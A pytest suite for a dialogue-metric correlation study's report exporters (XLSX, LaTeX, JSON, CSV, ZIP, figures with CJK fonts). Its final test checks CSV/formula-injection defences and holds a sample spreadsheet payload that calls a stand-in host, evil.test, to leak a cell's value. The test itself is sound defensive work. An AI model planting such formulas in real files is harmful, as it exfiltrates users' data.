"""Every download format opens: XLSX (bold best values), LaTeX, JSON, CSV, figures, ZIP."""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
import zipfile
from xml.etree import ElementTree

import matplotlib
import numpy as np
import pytest
from matplotlib.figure import Figure
from openpyxl import load_workbook

from metrics.analysis.correlation import Method
from metrics.analysis.results import CorrelationStudy, StudyConfig
from metrics.analysis.scores import ScoreRow
from metrics.analysis.study import run_study
from metrics.reporting.bundle import format_for_path, report_bytes, write_report, zip_bytes
from metrics.reporting.csvfiles import csv_files
from metrics.reporting.fonts import cjk_family
from metrics.reporting.latex import escape

SYSTEMS = ("小冰", "PLATO-2", "EVA", "CDial_GPT", "Qwen", "文心")


def _study(
    groups: tuple[str, ...] = ("闲聊",), methods: tuple[Method, ...] = ("pearson",)
) -> CorrelationStudy:
    rng = np.random.default_rng(3)
    metric, human = [], []
    for group in groups:
        for s, system in enumerate(SYSTEMS):
            for item in range(8):
                quality = s / 3 + rng.normal()
                human.append(
                    ScoreRow(
                        group, system, "信息量", float(np.clip(round(quality), 0, 2)), f"d{item}"
                    )
                )
                metric.append(ScoreRow(group, system, "BLEU_1", quality + rng.normal(), f"r{item}"))
                metric.append(ScoreRow(group, system, "DIST-1 (%)", rng.normal(), f"r{item}"))
    config = StudyConfig(level="system", methods=methods, bootstrap=50)
    return run_study(metric, human, config)


@pytest.fixture(scope="module")
def study() -> CorrelationStudy:
    return _study(groups=("闲聊", "knowledge"), methods=("pearson", "spearman"))


def test_xlsx_opens_with_a_sheet_per_table_and_bold_best_values(study: CorrelationStudy) -> None:
    book = load_workbook(io.BytesIO(report_bytes(study, "xlsx")))
    assert book.sheetnames[:4] == [
        "correlations",
        "correlations_ci",
        "average_over_groups",
        "clusters",
    ]
    assert "systems_闲聊" in book.sheetnames and "data" in book.sheetnames
    sheet = book["correlations"]
    assert sheet["A1"].value.startswith("Metric–human correlations")
    assert sheet["B2"].value == "闲聊" and "B2:C2" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet["A4"].value == "Metric" and sheet["B4"].value == "Pearson"
    assert [sheet.cell(row=r, column=1).value for r in (5, 6, 7)] == [
        "BLEU_1",
        "DIST-1 (%)",
        "Average",
    ]
    for column in range(2, 6):
        values = [sheet.cell(row=r, column=column) for r in (5, 6)]
        assert all(isinstance(c.value, float) for c in values)
        best = max(values, key=lambda c: c.value)
        assert best.font.bold and not min(values, key=lambda c: c.value).font.bold
    data = book["data"]
    header = [c.value for c in data[1]]
    assert header[:4] == ["group", "dimension", "metric", "method"]
    assert data.max_row == 1 + len(study.cells)


def test_latex_is_booktabs_with_balanced_braces_and_environments(study: CorrelationStudy) -> None:
    tex = report_bytes(study, "latex").decode()
    assert tex.startswith("% Contains CJK text") and r"\usepackage{xeCJK}" in tex
    for rule in (r"\toprule", r"\midrule", r"\bottomrule", r"\cmidrule(lr){2-3}"):
        assert rule in tex
    assert r"\textbf{" in tex and r"BLEU\_1" in tex and r"DIST-1 (\%)" in tex
    depth = 0
    for char in re.sub(r"\\[{}%$&#_]", "", tex):
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0
    assert depth == 0
    for env in ("document", "table", "tabular"):
        assert tex.count(rf"\begin{{{env}}}") == tex.count(rf"\end{{{env}}}") > 0
    for tabular in re.findall(r"\\begin\{tabular\}\{(\w+)\}(.*?)\\end\{tabular\}", tex, re.S):
        spec, body = tabular
        for line in (line for line in body.splitlines() if line.endswith(r"\\")):
            cells = line[: -len(r"\\")].split(" & ")
            spans = [int(m) for m in re.findall(r"\\multicolumn\{(\d+)\}", line)]
            assert len(cells) - len(spans) + sum(spans) == len(spec), line


def test_latex_escapes_specials_and_typesets_minus_signs() -> None:
    assert escape("a_b & 50% #1 -0.41 BLEU-1 {x}") == (r"a\_b \& 50\% \#1 $-$0.41 BLEU-1 \{x\}")


def test_json_and_csv_open(study: CorrelationStudy) -> None:
    data = json.loads(report_bytes(study, "json"))
    assert CorrelationStudy.from_dict(data) == study
    rows = list(csv.DictReader(io.StringIO(report_bytes(study, "csv").decode())))
    assert len(rows) == len(study.cells)
    assert {"value", "p_value", "p_holm", "ci_low", "ci_high", "undefined"} <= set(rows[0])
    assert "nan" not in report_bytes(study, "csv").decode().lower()


def test_zip_holds_every_file_and_the_figures_render_cjk_without_warnings() -> None:
    assert cjk_family() != "DejaVu Sans"  # a CJK font: the shipped subset at least
    study = _study()
    # Matplotlib attributes a missing-glyph warning to the caller's module, which the
    # project-wide "matplotlib.*" filter does not match: catch it here explicitly.
    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)
        data = zip_bytes(study)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = set(archive.namelist())
        assert {"results.json", "tables.xlsx", "tables.tex", "README.txt"} <= names
        for table in (
            "correlations",
            "systems",
            "rankings",
            "coverage",
            "comparisons",
            "metric_correlations",
            "distributions",
        ):
            assert f"csv/{table}.csv" in names
        figures = {n for n in names if n.startswith("figures/")}
        stems = {n.rsplit(".", 1)[0] for n in figures}
        assert stems == {
            "figures/heatmap_pearson",
            "figures/metrics_闲聊",
            "figures/distributions_闲聊",
            "figures/systems_闲聊_信息量",
        }
        assert figures == {f"{s}.png" for s in stems} | {f"{s}.svg" for s in stems}
        for name in figures:
            data = archive.read(name)
            if name.endswith(".png"):
                assert data.startswith(b"\x89PNG\r\n\x1a\n")
            else:
                ElementTree.fromstring(data)
        readme = archive.read("README.txt").decode()
        assert all(name in readme for name in names - {"README.txt"})
        assert "WARNING" not in readme  # no glyph was missing, no font degraded


def test_write_report_picks_the_format_from_the_extension(tmp_path) -> None:
    study = _study()
    assert format_for_path("out.TEX") == "latex" and format_for_path("out") == "json"
    path = write_report(study, tmp_path / "sub" / "report.xlsx")
    assert path.read_bytes()[:2] == b"PK"


def test_without_the_cjk_style_matplotlib_would_warn_about_missing_glyphs() -> None:
    # The control for the test above: the default font has no Chinese glyphs.
    with matplotlib.rc_context({"font.family": "DejaVu Sans"}):
        figure = Figure()
        figure.add_subplot().set_title("闲聊")
        with pytest.warns(UserWarning, match="missing from font"):
            figure.savefig(io.BytesIO(), format="png")


def test_xlsx_and_csv_write_formula_names_as_text_and_numbers_as_numbers() -> None:
    """An imported system named like a formula stays text in every sheet and CSV (OWASP CSV
    injection); correlations, negative ones included, stay numbers."""
    evil = '=HYPERLINK("http://evil.test/?"&A1,"点我")'
    rng = np.random.default_rng(5)
    metric, human = [], []
    for s, system in enumerate((evil, "@SUM(1)", "EVA", "Qwen", "文心")):
        for item in range(6):
            quality = s / 3 + rng.normal()
            human.append(ScoreRow("闲聊", system, "信息量", float(round(quality)), f"d{item}"))
            metric.append(ScoreRow("闲聊", system, "-BLEU", -quality, f"r{item}"))
    study = run_study(metric, human, StudyConfig(level="system", methods=("pearson",)))
    book = load_workbook(io.BytesIO(report_bytes(study, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + evil in texts and "'@SUM(1)" in texts and "'-BLEU" in texts
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
    correlation = book["correlations"]["B4"].offset(row=1).value
    assert isinstance(correlation, float) and correlation < 0
    for name, text in csv_files(study).items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], name
    systems = list(csv.DictReader(io.StringIO(csv_files(study)["systems.csv"])))
    assert "'" + evil in {row["system"] for row in systems}
